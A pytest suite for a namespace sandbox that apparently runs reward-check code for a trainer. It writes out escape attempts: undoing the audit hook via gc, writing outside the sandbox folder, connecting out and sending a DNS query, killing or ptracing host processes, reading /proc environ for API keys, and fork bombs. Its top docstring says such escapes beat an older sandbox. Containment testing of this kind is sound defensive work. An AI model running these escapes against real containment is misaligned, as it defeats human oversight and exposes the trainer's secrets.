"""Escape attempts against the namespace sandbox (shared/rewards/sandbox.py), one test per class of the escapes
that got out of the old audit-hook sandbox. Each attack runs with the audit hook off (audit_hook=False: the
namespaces must hold alone) and, where the hook has something to say, with it on; each test asserts the evidence
on the host: no file outside, no connection or DNS packet received, no process left, the trainer and a bystander
process alive, the trainer's memory bounded, the caller never raising."""
import os
import resource
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid

import pytest

from shared.rewards import sandbox
from shared.rewards.sandbox import SandboxResult, namespace_problem, run_python

pytestmark = pytest.mark.skipif(namespace_problem() is not None, reason=str(namespace_problem()))


def both(code, calls=((),), entry="check", **options) -> list[SandboxResult]:
    """The attack with the audit hook off and on; neither raises in the caller."""
    return [run_python(code, calls, entry=entry, audit_hook=hook, **options) for hook in (False, True)]


def processes_with(token: str) -> list[int]:
    """Host pids whose command line contains token."""
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/cmdline", "rb") as f:
                    if token.encode() in f.read():
                        found.append(int(name))
            except OSError:
                continue
    return found


UNDO_HOOK = """
import gc, sys
def undo_hook():
    main = sys.modules.get('__main__')
    for name in ('BLOCKED', 'PATH_WRITES', 'TWO_PATHS'):
        getattr(main, name, set()).clear() if hasattr(getattr(main, name, None), 'clear') else None
    try:
        for obj in gc.get_objects():
            if isinstance(obj, set) and 'os.system' in obj:
                obj.clear()
    except Exception:
        pass
"""


def test_undoing_the_audit_hook_gains_nothing(tmp_path):
    """The old escape: clear the hook's settings (sys.modules['__main__'] or gc.get_objects), then write, connect,
    spawn. The hook keeps its state in a frozen closure and refuses gc.get_objects; past it, the namespaces hold."""
    token = uuid.uuid4().hex
    targets = [os.path.join(tempfile.gettempdir(), token), os.path.join(sys.prefix, token)]
    code = UNDO_HOOK + f"""
import os, socket, subprocess
def check():
    undo_hook()
    out = []
    for path in {targets!r}:
        try:
            open(path, 'w').write('x'); out.append('wrote ' + path)
        except OSError as e:
            out.append(type(e).__name__)
    try:
        socket.create_connection(('1.1.1.1', 53), timeout=1); out.append('connected')
    except OSError as e:
        out.append(type(e).__name__)
    return out
"""
    for result in both(code):
        assert result.ok and not any(str(v).startswith(("wrote", "connected")) for v in result.values[0]), result
    assert "sandbox: gc.get_objects" in run_python(UNDO_HOOK.replace("except Exception:\n        pass",
                                                                     "finally:\n        pass") +
                                                   "def check():\n    undo_hook()\n").errors[0]
    assert not any(os.path.exists(t) for t in targets)


@pytest.mark.parametrize("attack", ["chdir", "dir_fd", "lying_str", "sqlite3", "symlink", "relative", "rename"])
def test_no_write_outside_the_sandbox_folder(attack):
    token = uuid.uuid4().hex
    host_dirs = [tempfile.gettempdir(), sys.prefix, os.path.dirname(os.__file__), "/usr/lib"]
    attacks = {
        "chdir": "os.chdir(d); open('{t}', 'w').write('x')",
        "dir_fd": "fd = os.open(d, os.O_RDONLY); os.close(os.open('{t}', os.O_WRONLY | os.O_CREAT, dir_fd=fd))",
        "lying_str": "class S(str):\n        def startswith(self, *a): return True\n    "
                     "open(S(os.path.join(d, '{t}')), 'w').write('x')",
        "sqlite3": "import sqlite3; sqlite3.connect(os.path.join(d, '{t}')).execute('create table t(x)')",
        "symlink": "os.symlink(os.path.join(d, '{t}'), 'link'); open('link', 'w').write('x')",
        "relative": "open('../' * 12 + d.lstrip('/') + '/{t}', 'w').write('x')",
        "rename": "open('{t}', 'w').write('x'); os.rename('{t}', os.path.join(d, '{t}'))",
    }
    code = (f"import os\ndef check(d):\n    os.chdir('/sandbox')\n    " + attacks[attack].format(t=token) +
            "\n    return 'wrote'\n")
    for result in both(code, [(d,) for d in host_dirs]):
        assert result.ok and "wrote" not in result.values, result
        assert all(result.errors), result
    assert not [d for d in host_dirs if os.path.exists(os.path.join(d, token))]


def test_no_network_and_no_dns():
    """TCP and UDP listeners on the host's loopback and on its outward address: nothing reaches them, a DNS
    query included; the sandbox sees only a down loopback."""
    received = []
    tcp = socket.socket()
    tcp.bind(("0.0.0.0", 0))
    tcp.listen(8)
    tcp.settimeout(0.1)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("0.0.0.0", 0))
    udp.settimeout(0.1)
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            for sock in (tcp, udp):
                try:
                    if sock is tcp:
                        conn, _ = tcp.accept()
                        received.append("tcp")
                        conn.close()
                    else:
                        received.append(("udp", udp.recvfrom(4096)[0]))
                except OSError:
                    pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        outward = socket.gethostbyname(socket.gethostname())
    except OSError:
        outward = "127.0.0.1"
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03com\x00\x00\x01\x00\x01"
    code = f"""
import socket
def check(host, tcp_port, udp_port):
    out = []
    try:
        socket.create_connection((host, tcp_port), timeout=1); out.append('tcp')
    except OSError as e:
        out.append(type(e).__name__)
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto({query!r}, (host, udp_port)); out.append('udp')
    except OSError as e:
        out.append(type(e).__name__)
    try:
        socket.getaddrinfo('secret.example.com', 80); out.append('dns')
    except OSError as e:
        out.append(type(e).__name__)
    out.append([name for _, name in socket.if_nameindex()])
    return out
"""
    try:
        calls = [(h, tcp.getsockname()[1], udp.getsockname()[1]) for h in ("127.0.0.1", outward)]
        off, on = both(code, calls)
        assert off.ok and all(v[0] != "tcp" and v[1] != "udp" and v[2] == "gaierror" for v in off.values), off
        assert all(v[3] == ["lo"] for v in off.values), off
        assert on.ok and all(v[:3] == ["PermissionError"] * 3 for v in on.values), on  # the hook said no first
        time.sleep(0.3)
        assert received == []
        # the same packets from the host do arrive: the listeners can see a leak
        socket.create_connection(("127.0.0.1", tcp.getsockname()[1]), timeout=1).close()
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", udp.getsockname()[1]))
        for _ in range(50):
            if len(received) == 2:
                break
            time.sleep(0.05)
        assert sorted(map(str, received)) == sorted(map(str, ["tcp", ("udp", query)]))
    finally:
        stop.set()
        thread.join(1)
        tcp.close()
        udp.close()


def test_no_signal_or_trace_outside(monkeypatch):
    """os.kill, pidfd_open + pidfd_send_signal and ptrace aimed at the trainer and at a bystander process, by
    their host pids: the PID namespace has no such processes. Both stay alive."""
    bystander = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    code = """
import ctypes, os, signal
def check(pid):
    out = [os.getppid()]
    try:
        os.kill(pid, signal.SIGKILL); out.append('killed')
    except OSError as e:
        out.append(type(e).__name__)
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.syscall(434, pid, 0)            # pidfd_open
    out.append(fd)
    if fd >= 0:
        out.append(libc.syscall(424, fd, 9, None, 0))   # pidfd_send_signal(SIGKILL)
    out.append(libc.syscall(101, 16, pid, None, None))  # ptrace(PTRACE_ATTACH)
    try:
        out.append(open(f'/proc/{pid}/environ').read())
    except OSError as e:
        out.append(type(e).__name__)
    return out
"""
    try:
        for target in (os.getpid(), bystander.pid):
            off, on = both(code, [(target,)])
            assert off.ok and off.values[0][0] == 1 and off.values[0][1] != "killed", off  # its parent: PID 1
            assert off.values[0][2] == -1 and off.values[0][3] == -1, off      # no pidfd, no ptrace
            assert on.ok and "sandbox" in on.errors[0], on
        time.sleep(0.2)
        assert bystander.poll() is None
    finally:
        bystander.kill()
        bystander.wait()


def test_no_secrets_from_the_trainer(monkeypatch):
    """The trainer's environment (API keys) is neither inherited nor readable through /proc."""
    token = uuid.uuid4().hex
    monkeypatch.setenv("SANDBOX_TEST_API_KEY", token)
    code = """
import os
def check(ppid):
    seen = [str(dict(os.environ))]
    for name in os.listdir('/proc'):
        if name.isdigit() or name == 'self':
            try:
                seen.append(open(f'/proc/{name}/environ', 'rb').read().decode('latin-1'))
            except OSError:
                pass
    for path in (f'/proc/{ppid}/environ', '/proc/1/environ', '/proc/1/mem'):
        try:
            seen.append(open(path, 'rb').read(10 ** 6).decode('latin-1'))
        except OSError as e:
            seen.append(type(e).__name__)
    return seen
"""
    for result in both(code, [(os.getpid(),)]):
        assert result.ok or result.errors, result
        assert token not in str(result.values) and token not in result.stdout


@pytest.mark.parametrize("how", ["subprocess_new_session", "multiprocessing_spawn", "posix_spawn", "fork"])
def test_every_process_is_killed_on_every_exit_path(how):
    """Children started every way (start_new_session, multiprocessing's spawn helpers, posix_spawn, fork), holding
    the output pipe open, on a normal return and on a timeout: run_python returns on time, none is left."""
    token = uuid.uuid4().hex
    sleeper = f"[sys.executable, '-c', 'import time; time.sleep(600)', '{token}']"
    starts = {
        "subprocess_new_session": f"subprocess.Popen({sleeper}, start_new_session=True, pass_fds=(1, 2))",
        "multiprocessing_spawn": f"from multiprocessing import util; util.spawnv_passfds(os.fsencode(sys.executable), "
                                 f"{sleeper}, [1, 2])",
        "posix_spawn": f"os.posix_spawn(sys.executable, {sleeper}, {{}}, setsid=True)",
        "fork": f"(os.fork() == 0) and (os.setsid(), os.execv(sys.executable, {sleeper}))",
    }
    for hang in (False, True):
        code = (f"import os, subprocess, sys, time\ndef check():\n    for _ in range(3):\n        {starts[how]}\n"
                f"    {'time.sleep(600)' if hang else 'pass'}\n    return 'started'\n")
        start = time.perf_counter()
        result = run_python(code, audit_hook=False, timeout_s=2.0)
        elapsed = time.perf_counter() - start
        assert result.status == ("timeout" if hang else "ok"), result
        assert elapsed < 4.5, elapsed
        assert processes_with(token) == []
    on = run_python(code, timeout_s=2.0)  # the hook refuses most ways (not multiprocessing's helper: no audit event)
    assert (on.ok and "sandbox" in on.errors[0] or on.status == "timeout") and processes_with(token) == []


def test_process_count_is_limited():
    """A fork bomb meets RLIMIT_NPROC of the sandbox's own namespace (the sandbox's host user is not root)."""
    code = """
import os, time
def check():
    pids = []
    try:
        for _ in range(200):
            pid = os.fork()
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            pids.append(pid)
    except OSError as e:
        return len(pids), type(e).__name__
    return len(pids), None
"""
    result = run_python(code, audit_hook=False, processes=8)
    assert result.ok and result.value[0] <= 8 and result.value[1] == "BlockingIOError", result


@pytest.mark.parametrize("forgery", ["marker_line", "not_json", "short_values", "values_not_a_list", "deep",
                                     "huge", "garbage_fds", "close_fd"])
def test_a_forged_result_is_an_error_never_an_exception(forgery):
    code_for = {
        "marker_line": "print('\\x00SANDBOX_RESULT\\x00{\"status\": \"ok\", \"values\": [1, 2, 3]}')",
        "not_json": "os.write(int(sys.argv[2]), b'{not json'); os._exit(0)",
        "short_values": "os.write(int(sys.argv[2]), b'{\"status\": \"ok\", \"values\": [], \"errors\": []}'); "
                        "os._exit(0)",
        "values_not_a_list": "os.write(int(sys.argv[2]), b'{\"status\": \"ok\", \"values\": 7, \"errors\": 7}'); "
                             "os._exit(0)",
        "deep": "os.write(int(sys.argv[2]), b'[' * 100000); os._exit(0)",
        "huge": "os.write(int(sys.argv[2]), b' ' * (40 << 20)); os._exit(0)",
        "garbage_fds": "[os.write(fd, b'x' * 100) for fd in range(3, 64) if not os.path.exists('/dev/null') or "
                       "fd != -1 and _try(fd)]",
        "close_fd": "os.close(int(sys.argv[2]))",
    }
    code = ("import os, sys\ndef _try(fd):\n    try:\n        os.fstat(fd)\n        return True\n    except OSError:\n"
            "        return False\ndef check(x):\n    " + code_for[forgery] + "\n    return x\n")
    result = run_python(code, [(1,), (2,)], audit_hook=False)
    assert isinstance(result, SandboxResult)
    if result.ok:  # the code's own honest result: its values are its own to choose anyway
        assert result.values == [1, 2], result
    else:
        assert result.status == "error", result


def test_output_flood_does_not_grow_the_trainer():
    """os.write(1, ...) and os.write(2, ...) of 256 MiB each: the supervisor reads and discards; the trainer keeps
    at most a few kilobytes."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    code = ("import os\ndef check():\n    block = b'x' * (1 << 20)\n    for _ in range(256):\n"
            "        os.write(1, block)\n        os.write(2, block)\n    return 'flooded'\n")
    result = run_python(code, audit_hook=False, timeout_s=20.0)
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert result.ok and result.value == "flooded" and len(result.stdout) <= 2000, result
    assert grown_mb < 32, grown_mb


def test_limits_still_hold_without_the_hook():
    assert run_python("def check():\n    while True:\n        pass\n", timeout_s=0.5, audit_hook=False).status == \
        "timeout"
    assert run_python("def check():\n    return len(bytearray(1 << 30))\n", memory_mb=200,
                      audit_hook=False).status == "memory"
    deep = run_python("def check():\n    return check()\n", audit_hook=False)
    assert deep.ok and deep.errors[0].startswith("RecursionError")
    big = run_python("def check():\n    open('big', 'wb').write(b'x' * (8 << 20))\n", file_mb=1, audit_hook=False)
    assert not (big.ok and big.errors == [""]), big


def test_no_capabilities_and_a_read_only_root():
    code = """
import os
def check():
    status = open('/proc/self/status').read()
    caps = {l.split(':')[0]: l.split()[1] for l in status.splitlines() if l.startswith('Cap')}
    out = [caps['CapEff'], caps['CapBnd'], os.getuid()]
    for path in ('/x', '/usr/x', '/tmp/x', '/dev/x'):
        try:
            open(path, 'w'); out.append('wrote')
        except OSError as e:
            out.append(type(e).__name__)
    return out
"""
    result = run_python(code, audit_hook=False)
    assert result.ok and result.value[:2] == ["0000000000000000", "0000000000000000"], result
    assert "wrote" not in result.value, result


def test_refusal_names_what_is_missing(monkeypatch):
    """Where the machine has no namespaces, the sandbox and the gate refuse in one line; the unsafe backend runs
    only when asked for by name."""
    line = "sandbox-setup: unshare(user, mount, net, ipc, uts, pid): Operation not permitted (errno 1)"
    monkeypatch.setattr(sandbox, "namespace_problem", lambda: line)
    with pytest.raises(sandbox.SandboxUnavailable, match="Operation not permitted"):
        run_python("def check():\n    return 1\n")
    with pytest.raises(sandbox.SandboxUnavailable):
        sandbox.ConstraintGate("def check(response):\n    return True\n")
    assert "\n" not in line
    unsafe = run_python("def check():\n    return 1\n", backend="unsafe_audit_hook")
    assert unsafe.value == 1
    monkeypatch.setenv(sandbox.BACKEND_ENV, "unsafe_audit_hook")
    assert run_python("def check():\n    return 2\n").value == 2
    with pytest.raises(ValueError, match="sandbox backend"):
        run_python("x = 1", backend="docker")


def test_a_dying_trainer_takes_the_sandbox_with_it():
    """The trainer killed mid-run (SIGKILL, no cleanup of its own): the launcher, the namespace and every process
    the code started die with it (PR_SET_PDEATHSIG down the chain)."""
    token = uuid.uuid4().hex
    trainer = ("import sys\nfrom shared.rewards.sandbox import run_python\n"
               "run_python(\"import subprocess, sys, time\\ndef check():\\n    subprocess.Popen([sys.executable, '-c', "
               f"'import time; time.sleep(600)', '{token}'], start_new_session=True)\\n    time.sleep(600)\\n\", "
               "audit_hook=False, timeout_s=60)\n")
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    proc = subprocess.Popen([sys.executable, "-c", trainer], cwd=root, env={**os.environ, "PYTHONPATH": root})
    try:
        for _ in range(100):
            if processes_with(token):
                break
            time.sleep(0.05)
        assert processes_with(token), "the code's process never started"
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    for _ in range(40):
        if not processes_with(token):
            break
        time.sleep(0.05)
    assert processes_with(token) == []


def test_the_work_folder_is_capped_as_a_whole_not_per_file():
    # many files each under file_mb: with /sandbox a host folder one run wrote 1,168 MiB; on its own tmpfs of
    # disk_mb the writes stop at the cap, and nothing of it is on the host's disk
    code = """
import os
def check():
    written = 0
    try:
        for i in range(64):
            with open(f'/sandbox/f{i}', 'wb') as f:
                f.write(b'x' * (1 << 20))
            written += 1
    except OSError as e:
        return [written, type(e).__name__]
    return [written, '']
"""
    result = run_python(code, file_mb=2, disk_mb=8, audit_hook=False)
    assert result.ok and result.value[1] == "OSError" and 4 <= result.value[0] <= 8, result


FORK_AND_HOLD = """import os, time
def check():
    children = []
    for _ in range({n}):
        pid = os.fork()
        if pid == 0:
            block = bytearray({mb} << 20)
            for i in range(0, len(block), 4096):
                block[i] = 1  # touch every page: resident, not only reserved
            time.sleep(1.5)
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
    return len(children)
"""


def test_processes_together_are_held_to_memory_mb():
    """RLIMIT_AS caps each process; 6 forked processes of 100 MiB each (600 MiB) under memory_mb=300 pass it one by
    one, and the namespace's PID 1 ends the run on their sum. Two of them (200 MiB) run."""
    seen = run_python("import os\ndef check():\n    return [p for p in os.listdir('/proc') if p.isdigit()]\n",
                      audit_hook=False)
    if not (seen.ok and seen.value):
        pytest.skip("this kernel gave the sandbox no /proc of its own: only RLIMIT_AS per process holds here")
    crowd = run_python(FORK_AND_HOLD.format(n=6, mb=100), memory_mb=300, timeout_s=10.0, audit_hook=False)
    assert crowd.status == "memory" and "together, over memory_mb (300 MiB)" in crowd.message, crowd
    pair = run_python(FORK_AND_HOLD.format(n=2, mb=100), memory_mb=300, timeout_s=10.0, audit_hook=False)
    assert pair.ok and pair.value == 2, pair


def test_namespace_memory_reads_pss_and_falls_back_to_statm(tmp_path):
    from shared.rewards import sandbox_child

    (tmp_path / "7").mkdir()
    (tmp_path / "7" / "smaps_rollup").write_text("Rss:  9000 kB\nPss:  3000 kB\nShared_Clean: 10 kB\n")
    (tmp_path / "8").mkdir()
    (tmp_path / "8" / "statm").write_text("5000 1200 200 1 0 900 0\n")  # resident 1200 pages, 200 file-backed
    (tmp_path / "9").mkdir()  # the caller: never counted
    (tmp_path / "9" / "statm").write_text("5000 99999 0 1 0 900 0\n")
    (tmp_path / "self").mkdir()
    page = os.sysconf("SC_PAGE_SIZE")
    assert sandbox_child.namespace_memory(str(tmp_path), me=9) == 3000 * 1024 + 1000 * page
    assert sandbox_child.namespace_memory(str(tmp_path / "absent"), me=9) is None
